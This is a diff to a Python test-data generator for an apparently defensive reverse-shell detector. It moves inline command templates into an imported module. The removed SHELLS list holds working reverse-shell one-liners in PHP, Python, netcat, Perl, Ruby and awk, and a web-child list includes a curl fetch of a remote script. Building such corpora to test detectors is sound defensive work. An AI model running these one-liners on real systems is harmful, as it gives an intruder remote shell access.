@@ -22,24 +22,9 @@ sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))
 
 __all__ = ["events", "write_corpus", "write_audit_corpus", "write_cmdline_corpus"]
 
-BENIGN = [
-    ("ls", ["ls", "-la", "/var/log"]), ("systemctl", ["systemctl", "status", "nginx.service"]),
-    ("grep", ["grep", "-r", "ERROR", "/var/log/app"]), ("cat", ["cat", "/etc/os-release"]),
-    ("python3", ["python3", "/opt/app/manage.py", "migrate"]), ("curl", ["curl", "-s", "https://api.internal/health"]),
-    ("ps", ["ps", "aux"]), ("tar", ["tar", "czf", "/backup/etc.tgz", "/etc"]), ("sshd", ["sshd", "-D"]),
-    ("git", ["git", "pull", "--rebase"]), ("bash", ["bash", "-c", "echo $HOME"]), ("awk", ["awk", "{print $1}"]),
-]
-SHELLS = [
-    ("php", ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");']),
-    ("python3", ["python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.7",4444));'
-                                  '[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")']),
-    ("nc", ["nc", "10.9.8.7", "4444", "-e", "/bin/sh"]),
-    ("perl", ["perl", "-e", 'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));exec("/bin/sh -i");']),
-    ("ruby", ["ruby", "-rsocket", "-e", 'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)']),
-    ("awk", ["awk", 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c} }}']),
-]
-WEB_PARENTS = [("apache2", "/usr/sbin/apache2"), ("nginx", "/usr/sbin/nginx"), ("php-fpm7.4", "/usr/sbin/php-fpm7.4")]
-WEB_CHILDREN = [("sh", ["sh", "-c", "id"]), ("whoami", ["whoami"]), ("bash", ["bash", "-i"]), ("curl", ["curl", "http://x/a.sh"])]
+# The templates live with the built-in benign sample that judges noisy anchors (plugin/noise.py):
+# one list, so the sample is the corpus's and the corpus is unchanged.
+from shellsieve.noise import BENIGN, SHELLS, WEB_CHILDREN, WEB_PARENTS  # noqa: E402
 
 
 def _process(rng: random.Random, i: int, ts: str, name: str, args: list[str], parent: tuple[str, str],
